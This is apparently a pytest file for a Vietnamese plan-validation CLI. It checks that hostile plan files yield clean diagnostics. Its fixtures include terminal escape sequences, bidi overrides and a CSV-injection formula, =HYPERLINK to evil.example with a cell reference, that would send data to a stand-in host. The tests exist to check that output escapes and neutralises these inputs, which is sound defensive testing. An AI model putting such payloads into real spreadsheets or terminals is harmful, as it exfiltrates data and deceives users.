"""Bad and hostile input: whatever a plan file holds, cchc answers with a diagnostic at
the right place, and never lets the file's bytes take over the terminal or a sheet."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cchc_plan.cli import app
from tests.conftest import AS_OF, PLAN_2021

MINIMAL = Path(__file__).parent / "cases" / "valid" / "minimal.yaml"


def _validate(runner: CliRunner, path: Path, *args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["validate", str(path), "--as-of", AS_OF.isoformat(), *args])
    assert "Traceback" not in result.output
    return result.exit_code, result.output


@pytest.mark.parametrize(
    "prologue",
    [
        "%YAML 1.0\n",
        "%YAML 1.3\n",
        "%YAML 2.0\n",
        "%YAML 1.99999999999999999999\n",
        "%YAML 99999999999999999999.1\n",
        "%YAML 1.\n",
        "%YAML 1.1\n%YAML 1.1\n",
        "%YAML 1.2\n%YAML 1.3\n",
        "%TAG !x!\n",
        "%TAG !x! a\n%TAG !x! b\n",
        "%TAG !! tag:yaml.org,2002:python/\n",
        "%TAG !e! %zz\n",
        "%\n",
        "%YAML\t1.2\n",
    ],
)
def test_every_directive_is_refused_at_its_line(
    runner: CliRunner, tmp_path: Path, prologue: str
) -> None:
    """Any directive, well or badly formed, is CCHC016 on its own line: never a crash."""
    path = tmp_path / "plan.yaml"
    path.write_text(prologue + "---\n" + MINIMAL.read_text(encoding="utf-8"), encoding="utf-8")
    code, output = _validate(runner, path)
    assert code == 1, output
    for number in range(1, prologue.count("\n") + 1):
        assert f"{path}:{number}:1: lỗi CCHC016: không dùng chỉ thị" in output


def test_a_directive_before_a_second_document_is_refused_too(
    runner: CliRunner, tmp_path: Path
) -> None:
    """A directive after `...` (the start of a second document) is no crash either."""
    path = tmp_path / "plan.yaml"
    path.write_text("a: 1\n...\n%YAML 1.3\n---\nb: 2\n", encoding="utf-8")
    code, output = _validate(runner, path)
    assert code == 1, output
    assert f"{path}:3:1: lỗi CCHC016" in output
    assert f"{path}:4:1: lỗi CCHC006" in output


@pytest.mark.parametrize("escape", ["\\U00110000", "\\UFFFFFFFF", "\\U7FFFFFFF"])
def test_an_escape_past_unicode_is_named_where_it_is(
    runner: CliRunner, tmp_path: Path, escape: str
) -> None:
    """An escape beyond U+10FFFF is CCHC021 at its backslash, in both languages."""
    path = tmp_path / "plan.yaml"
    path.write_text(f'document:\n  place: "Trà {escape}"\n', encoding="utf-8")
    code, output = _validate(runner, path)
    assert code == 1, output
    assert f"{path}:2:15: lỗi CCHC021: chuỗi thoát {escape} không hợp lệ" in output
    _, english = _validate(runner, path, "--lang", "en")
    assert f"invalid escape sequence {escape}: beyond U+10FFFF" in english


# What an output may never carry raw: controls but tab and newline, bidirectional
# controls, line and paragraph separators, U+FEFF and lone surrogates.
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
    "\ufeff\ud800-\udfff]"
)


def _hostile_plan(folder: Path) -> Path:
    """A file whose name holds an escape and a byte that is not UTF-8, with a key
    holding a control character twice (a duplicate key quotes it)."""
    path = folder / "k\x1b[2J\udcff.yaml"
    path.write_text('"a\\e]8;;http://evil\\a": 1\n"a\\e]8;;http://evil\\a": 2\n', encoding="utf-8")
    return path


@pytest.mark.parametrize("output_format", ["text", "github", "json"])
def test_no_output_carries_a_control_character(
    runner: CliRunner, tmp_path: Path, output_format: str
) -> None:
    """File names and messages show a control character as a visible escape."""
    path = _hostile_plan(tmp_path)
    result = runner.invoke(app, ["validate", str(path), "--format", output_format])
    assert result.exit_code == 1, result.output
    assert UNSAFE.search(result.output) is None, ascii(result.output)
    if output_format == "json":
        document = json.loads(result.output)
        assert document["files"][0]["file"] == str(path)
        assert [d["code"] for d in document["diagnostics"]] == ["CCHC023", "CCHC002", "CCHC023"]
    else:
        assert "k\\x1b[2J\\xff.yaml" in result.output
        assert 'khóa "a\\x1b]8;;http://evil\\x07" bị lặp lại' in result.output


def test_the_excerpt_shows_an_invisible_character_and_points_at_it(
    runner: CliRunner,
) -> None:
    """A raw right-to-left override is shown as \\u202e, the caret under its backslash."""
    path = Path(__file__).parent / "cases" / "invalid" / "raw-bidi.yaml"
    _, output = _validate(runner, path)
    lines = output.splitlines()
    assert lines[1] == "3 |   number: 10/KH-\\u202eTĐHKS"
    assert lines[2] == "  |                 ^"


def test_csv_cells_never_start_a_formula(runner: CliRunner, tmp_path: Path) -> None:
    """Text that a spreadsheet would run (=, +, -, @, tab, CR first) gets a leading ',
    while numbers, negative ones too, stay numbers (OWASP's CSV injection advice)."""
    text = (
        MINIMAL.read_text(encoding="utf-8")
        .replace(
            "description: Đăng tin, bài tuyên truyền CCHC",
            """description: '=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")'""",
        )
        .replace(
            "description: Khảo sát sự hài lòng sau khi trả kết quả",
            'description: "-Khảo sát sự hài lòng"',
        )
        .replace("assignee: Đỗ Văn Q", 'assignee: "@Đỗ Văn Q"')
        .replace("deadline: ongoing", "deadline: 2021-09-01")
    )
    plan = tmp_path / "2021.yaml"
    plan.write_text(text, encoding="utf-8")
    result = runner.invoke(
        app, ["status", "--format", "csv", "--plan", str(plan), "--as-of", AS_OF.isoformat()]
    )
    assert result.exit_code == 0, result.output
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.output.lstrip("\ufeff")))}
    assert (
        rows["t01"]["description"] == """'=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")"""
    )
    assert rows["t02"]["description"] == "'-Khảo sát sự hài lòng"
    assert rows["t02"]["assignee"] == "'@Đỗ Văn Q"
    assert rows["t02"]["days_left"] == "-29"
    assert rows["t02"]["due"] == "2021-09-01"
    row = "\nt02,'-Khảo sát sự hài lòng,,registration,office,'@Đỗ Văn Q,2.1,2021-09-01,"
    assert row + "2021-09-01,-29," in result.output


def test_the_terminal_shows_a_control_character_as_an_escape() -> None:
    """Plan text in a table is shown with visible escapes, should any reach it."""
    from cchc_plan.output import terminal  # noqa: PLC0415
    from cchc_plan.reading.validation import validate_file  # noqa: PLC0415

    plan = validate_file(str(MINIMAL), as_of=AS_OF).plan
    assert plan is not None
    out = io.StringIO()
    hostile = "Văn phòng\x1b[2J\u202eSở"
    terminal.print_status(terminal.console(out), plan, [], [], as_of=AS_OF, unit_name=hostile)
    assert "Văn phòng\\x1b[2J\\u202eSở" in out.getvalue()
    assert UNSAFE.search(out.getvalue()) is None


def _one_line_plan(folder: Path) -> Path:
    """The minimal plan written as JSON (flow YAML) on one line of about 400 kB, with
    errors at its start, in its middle and at its end, one of them a key of 1,000
    characters."""
    from cchc_plan.reading.loader import read_file  # noqa: PLC0415

    data = read_file(str(MINIMAL)).data
    assert data is not None
    data["document"]["placed"] = "Trà Vinh"  # an unknown key, near the start
    data["horizon"]["k" * 1000] = 1  # an unknown key as long as YAML allows
    for task in data["tasks"]:
        task["description"] = "Mô tả rất dài " * 14_500
        task["lead"] = "ofice"  # an unknown unit, in the middle
        task["status"] = "finished"
    data["responsibilities"] = "Trách nhiệm"  # a text where a list belongs, at the end
    path = folder / "one-line.yaml"
    path.write_text(json.dumps(data, ensure_ascii=False, default=str), encoding="utf-8")
    return path


def test_a_plan_on_one_line_quotes_a_window_around_each_column(
    runner: CliRunner, tmp_path: Path
) -> None:
    """Each excerpt of a one-line plan is a window of at most 100 characters, with "…"
    where it is cut, and the caret still under the character the column names; a
    message quotes at most 120 characters of a value."""
    path = _one_line_plan(tmp_path)
    source = path.read_text(encoding="utf-8")
    assert len(source) > 400_000
    code, output = _validate(runner, path)
    assert code == 1
    assert len(output.encode()) < 8_000, output[:3000]
    lines = output.splitlines()
    places = [i for i, line in enumerate(lines) if f"{path}:1:" in line]
    assert len(places) == 5
    for i in places:
        column = int(lines[i].split(":")[2])
        excerpt = lines[i + 1].removeprefix("1 | ")
        caret = lines[i + 2].removeprefix("  | ")
        assert len(excerpt) <= 100
        assert caret.strip() == "^"
        at = len(caret) - 1
        assert excerpt[at] == source[column - 1]
        body = excerpt.removeprefix("…").removesuffix("…")
        assert body in source
        assert excerpt.startswith("…") == (not source.startswith(body))
        assert excerpt.endswith("…") == (not source.endswith(body))


def _columns(text: str) -> int:
    """How many terminal columns `text` takes (combining marks none, wide ones two)."""
    return sum(
        0 if unicodedata.combining(c) else 2 if unicodedata.east_asian_width(c) in "WF" else 1
        for c in text
    )


@pytest.mark.parametrize(
    ("source", "column"),
    [
        ("  lead: ofice", 9),
        ("x" * 300, 1),  # the caret at the very start
        ("y" * 299 + "z", 300),
        ("y" * 300, 301),  # the caret past the end, as for an unexpected end of line
        ("a" * 150 + "漢字" * 100 + "!", 351),
        ("漢字" * 100 + "b" * 40, 200),
        ("- tên: Vie\u0302\u0323t Nam, x: 1", 23),
        ("ab\x1bcd" * 60, 153),
        ("\tkey: value", 2),
    ],
)
def test_an_excerpt_fits_and_its_caret_points_at_the_column(source: str, column: int) -> None:
    """However long or wide the line, the excerpt is at most 100 columns, cut with "…",
    and the caret stands under the character the column names."""
    from cchc_plan.output.diagnostics import _excerpt  # noqa: PLC0415

    shown, caret = _excerpt(source, column)
    assert _columns(shown) <= 100
    assert caret.lstrip(" \t") == "^"
    escaped = source.replace("\x1b", "\\x1b")
    if len(source) <= 100:
        assert shown == escaped
    else:
        assert shown.removeprefix("…").removesuffix("…") in escaped
    # Walk the excerpt to the caret's column: the character there is the column's.
    expected = source[column - 1 : column].replace("\x1b", "\\x1b")
    tabs = caret.count("\t")
    at, position = _columns(caret) - 1 - tabs, tabs
    while at > 0:
        at -= _columns(shown[position])
        position += 1
    assert shown[position:].startswith(expected), (shown, caret)


@pytest.mark.parametrize(
    ("line", "column", "where"),
    [
        ("\u00a0 kind: Kế hoạch", 1, "ở phần thụt lề"),
        (" \u00a0kind: Kế hoạch", 2, "ở phần thụt lề"),
        ("  \u00a0kind: Kế hoạch", 3, "ở phần thụt lề"),
        ("\u00a0\u00a0kind: Kế hoạch", 1, "ở phần thụt lề"),
        ("  kind\u00a0: Kế hoạch", 7, "giữa khóa và dấu hai chấm"),
        ("  kind \u00a0: Kế hoạch", 8, "giữa khóa và dấu hai chấm"),
        ("  kind:\u00a0Kế hoạch", 8, "sau dấu hai chấm"),
        ("  parent: {name:\u00a0UBND}", 17, "sau dấu hai chấm"),
    ],
)
def test_a_no_break_space_is_named_once_where_it_is(
    runner: CliRunner, tmp_path: Path, line: str, column: int, where: str
) -> None:
    """A no-break space where YAML needs a space is one CCHC024, at its own column,
    whether or not the parser trips over it later."""
    path = tmp_path / "plan.yaml"
    path.write_text(
        f"document:\n  place: Trà Vinh\n{line}\n  number: 10/KH-SKHĐT\n", encoding="utf-8"
    )
    code, output = _validate(runner, path)
    assert code == 1, output
    assert output.count("CCHC") == 1, output
    assert f"{path}:3:{column}: lỗi CCHC024: dấu cách không ngắt dòng" in output
    assert where in output


@pytest.mark.parametrize(
    "line",
    [
        "  place: Trà\u00a0Vinh",  # inside a name, as Word writes it
        "  title: 'Kế hoạch:\u00a0năm 2021'",  # after a colon in a quoted text
        "  title: Lưu ý:\u00a0năm 2021",  # after a colon in a sentence
        "  # Ghi chú:\u00a0sửa sau",  # in a comment
    ],
)
def test_a_no_break_space_inside_text_is_text(
    runner: CliRunner, tmp_path: Path, line: str
) -> None:
    """A no-break space in a value or a comment is no reading trap."""
    path = tmp_path / "plan.yaml"
    path.write_text(f"document:\n{line}\n", encoding="utf-8")
    _, output = _validate(runner, path)
    assert "CCHC024" not in output


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ("ofice", "office (Văn phòng Sở)"),
        ("thanh tar", "inspectorate (Thanh tra Sở)"),
        ("Phong dang ky kinh donh", "registration (Phòng Đăng ký kinh doanh)"),
        ("KTDM", "foreign (Phòng Kinh tế đối ngoại)"),
    ],
)
def test_a_misspelt_unit_gets_a_did_you_mean(runner: CliRunner, typed: str, meant: str) -> None:
    """--unit with a typo in an id, a name or an alias suggests the unit meant."""
    args = ["status", "--unit", typed, "--plan", str(PLAN_2021), "--as-of", AS_OF.isoformat()]
    result = runner.invoke(app, args)
    assert result.exit_code == 2
    assert f"không có đơn vị nào tên “{typed}”; có phải ý bạn là {meant}" in result.output


def test_a_unit_nothing_resembles_lists_the_units(runner: CliRunner) -> None:
    """Without a close match, the message lists every unit, as before."""
    args = ["status", "--unit", "kho bạc", "--plan", str(PLAN_2021)]
    result = runner.invoke(app, args)
    assert result.exit_code == 2
    assert "có phải ý bạn là" not in result.output
    assert "các đơn vị: office (Văn phòng Sở)" in result.output


def test_version_and_short_help(runner: CliRunner) -> None:
    """`cchc --version` prints the version; -h is --help, on the app and every command."""
    from importlib.metadata import version  # noqa: PLC0415

    from cchc_plan.cli import COMMANDS  # noqa: PLC0415
    from cchc_plan.cli import app as application  # noqa: PLC0415

    result = runner.invoke(application, ["--version"])
    assert result.exit_code == 0
    assert result.output == f"cchc {version('cchc-plan')}\n"
    assert (
        runner.invoke(application, ["-h"]).output == runner.invoke(application, ["--help"]).output
    )
    assert len(COMMANDS) >= 6
    for command in COMMANDS:
        short = runner.invoke(application, [command, "-h"])
        assert short.exit_code == 0, (command, short.output)
        assert short.output == runner.invoke(application, [command, "--help"]).output


def test_an_error_message_shows_a_control_character_as_an_escape(runner: CliRunner) -> None:
    """A path that does not exist is named with its control characters escaped."""
    result = runner.invoke(app, ["validate", "no\x1b[2Jsuch.yaml"])
    assert result.exit_code == 2
    assert "no\\x1b[2Jsuch.yaml: không tìm thấy" in result.output
    assert UNSAFE.search(result.output) is None
